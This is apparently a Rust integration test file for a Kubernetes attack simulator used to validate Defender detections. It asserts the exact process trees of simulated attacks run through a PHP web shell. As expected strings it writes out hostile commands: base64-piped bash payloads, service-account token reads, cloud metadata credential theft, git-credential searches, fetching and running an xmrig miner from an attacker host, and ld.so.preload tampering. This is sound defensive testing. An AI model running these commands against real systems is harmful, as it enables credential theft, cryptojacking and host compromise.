//! The kernel's view of a run: which programs ran in the victim, with which arguments, below whom.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::Command;

use serde_json::Value;

use crate::range::{Space, shared, text};

/// A program that ran, with those above it, the nearest first; forks of a shell are left out.
#[derive(Debug)]
struct Program {
    command: String,
    argv: Vec<String>,
    above: Vec<String>,
    opens: Vec<String>,
}

/// Runs scenarios under the recorder; programs by container name.
fn record(space: &Space, scenarios: &[&str]) -> BTreeMap<String, Vec<Program>> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let out = tempfile::NamedTempFile::new().unwrap();
    let binary = Path::new(env!("CARGO_BIN_EXE_kubectl-defender_sim"))
        .parent()
        .unwrap();
    let path = format!("{}:{}", binary.display(), std::env::var("PATH").unwrap());
    let status = Command::new(root.join("tests/range/record"))
        .arg(out.path())
        .args(["kubectl", "defender-sim", "run"])
        .args(scenarios)
        .args(["--yes", "-q", "-n", &space.0])
        .env("PATH", path)
        .status()
        .unwrap();
    assert!(status.success());
    let recorded: Value = serde_json::from_str(&std::fs::read_to_string(out.path()).unwrap()).unwrap();
    assert_eq!(recorded["lost"], 0);
    assert!(!recorded.to_string().contains("eyJ"), "a token was written down");
    let mut programs = BTreeMap::new();
    for container in recorded["containers"].as_array().unwrap() {
        if container["namespace"] == space.0.as_str() {
            let mut found = vec![];
            walk(&container["processes"], &[], &mut found);
            programs.insert(text(&container["container"]), found);
        }
    }
    programs
}

fn walk(processes: &Value, above: &[String], found: &mut Vec<Program>) {
    for process in processes.as_array().unwrap() {
        let forked = process["forked"] == true;
        let mut line = above.to_vec();
        if !forked {
            let argv: Vec<String> = process["argv"].as_array().unwrap().iter().map(text).collect();
            let opens = process["opens"].as_array().unwrap().iter();
            found.push(Program {
                command: argv.join(" "),
                argv,
                above: above.to_vec(),
                opens: opens
                    .filter(|open| open["write"] == true)
                    .map(|open| text(&open["path"]))
                    .collect(),
            });
            line.insert(0, text(&process["comm"]));
        }
        walk(&process["children"], &line, found);
    }
}

/// Insists that the victim ran `command` in a bash that the web shell started, as a child of PHP's worker.
#[track_caller]
fn below_the_web_shell<'a>(victim: &'a [Program], command: &str) -> &'a Program {
    let found = victim.iter().find(|program| program.command == command);
    let found = found.unwrap_or_else(|| panic!("{command:?} did not run; these did: {victim:#?}"));
    assert_eq!(found.above[..3], ["bash", "sh", "php-fpm"], "{found:#?}");
    found
}

#[track_caller]
fn delivered(programs: &BTreeMap<String, Vec<Program>>) -> &[Program] {
    let victim = &programs["victim"];
    let shell = victim
        .iter()
        .find(|p| p.argv.len() == 3 && p.argv[..2] == ["sh", "-c"] && p.argv[2].starts_with("echo "));
    let shell = shell.unwrap_or_else(|| panic!("no web shell in {victim:#?}"));
    assert!(shell.argv[2].ends_with("| base64 -d| bash"), "{shell:#?}");
    assert_eq!(shell.above[0], "php-fpm");
    let decode = victim.iter().find(|p| p.command == "base64 -d").unwrap();
    assert_eq!(decode.above[..2], ["sh", "php-fpm"]);
    let attacker = &programs["attacker"];
    let request = format!("cmd={}", shell.argv[2]);
    let expected = [
        "curl",
        "-Gs",
        "--data-urlencode",
        &request,
        "http://mdc-simulation-victim/ws.php",
    ];
    let curl = attacker.iter().find(|program| program.argv == expected);
    let curl = curl.unwrap_or_else(|| panic!("no request with {request} in {attacker:#?}"));
    assert_eq!(curl.above, ["bash"]);
    victim
}

const TOKEN: &str = "cat /var/run/secrets/kubernetes.io/serviceaccount/token";

#[test]
#[ignore = "needs the range: make range"]
fn recon() {
    let _shared = shared();
    let space = Space::named("tree-recon");
    let programs = record(&space, &["recon"]);
    let victim = delivered(&programs);
    below_the_web_shell(victim, TOKEN);
    below_the_web_shell(victim, "nmap -Pn --open kubernetes.default/24 -p 443");
    let curl = victim.iter().find(|program| program.argv[0] == "curl").unwrap();
    let review = r#"{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectAccessReview","spec":{"resourceAttributes":{"namespace":"default","resource":"pods","verb":"get"}}}"#;
    let expected = [
        "curl",
        "-s",
        "-k",
        "-A",
        "kubectl",
        "-H",
        "Authorization: Bearer <token>",
        "-H",
        "Content-Type: application/json",
        "-X",
        "POST",
        "-d",
        review,
        "https://kubernetes.default/apis/authorization.k8s.io/v1/selfsubjectaccessreviews",
    ];
    assert_eq!(curl.argv, expected);
    assert_eq!(curl.above[..3], ["bash", "sh", "php-fpm"]);
}

#[test]
#[ignore = "needs the range: make range"]
fn everything_else() {
    let _shared = shared();
    let space = Space::named("tree-all");
    let programs = record(
        &space,
        &["lateral-mov", "secrets", "crypto", "ti-domain", "anti-malware"],
    );
    let victim = delivered(&programs);
    let metadata = "http://169.254.169.254";
    for command in [
        // lateral-mov
        format!(
            "curl -s -H Metadata-Flavor: Google {metadata}/computeMetadata/v1/instance/service-accounts/default/token"
        ),
        format!("curl -sf -X PUT {metadata}/latest/api/token -H X-aws-ec2-metadata-token-ttl-seconds: 21600"),
        format!(
            "curl -s -H Metadata:true --noproxy * {metadata}/metadata/instance/compute/subscriptionId?api-version=2017-08-01&format=text"
        ),
        format!(
            "curl -s -H Metadata:true --noproxy * {metadata}/metadata/instance/compute/resourceGroupName?api-version=2017-08-01&format=text"
        ),
        format!(
            "curl -s -H Metadata:true --noproxy * {metadata}/metadata/instance/compute/location?api-version=2017-08-01&format=text"
        ),
        format!(
            "curl -sf -H Metadata:true {metadata}/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com"
        ),
        // secrets
        "find / -path */.git-credentials".into(),
        "cat /home/user/.git-credentials".into(),
        TOKEN.into(),
        "grep -q ^AWS_SECRET_ACCESS_KEY=".into(),
        // crypto
        "/sbin/modprobe msr allow_writes=on".into(),
        "curl -sO http://mdc-simulation-attacker/xmrig".into(),
        "chmod +x xmrig".into(),
        "./xmrig".into(),
        // ti-domain
        "curl -s -m 10 -X POST http://mdc-eicar.alerts.security.azure.com?SendingData -o /dev/null".into(),
        // anti-malware
        "chmod a+x ./infected_file".into(),
    ] {
        below_the_web_shell(victim, &command);
    }
    let touch = below_the_web_shell(victim, "touch /etc/ld.so.preload");
    assert_eq!(touch.opens, ["/etc/ld.so.preload"]);
}

#[test]
#[ignore = "needs the range: make range"]
fn webshell() {
    let _shared = shared();
    let space = Space::named("tree-webshell");
    let programs = record(&space, &["webshell"]);
    let command = programs["victim"]
        .iter()
        .find(|program| program.argv == ["whoami"])
        .unwrap();
    // Whether the shell becomes whoami or starts it is up to the shell.
    assert!(command.above.contains(&"php-fpm".to_owned()), "{command:#?}");
    let curl = programs["attacker"]
        .iter()
        .find(|program| program.argv[0] == "curl")
        .unwrap();
    assert_eq!(
        curl.argv,
        [
            "curl",
            "-Gs",
            "--data-urlencode",
            "cmd=whoami",
            "http://mdc-simulation-victim/ws.php"
        ]
    );
}
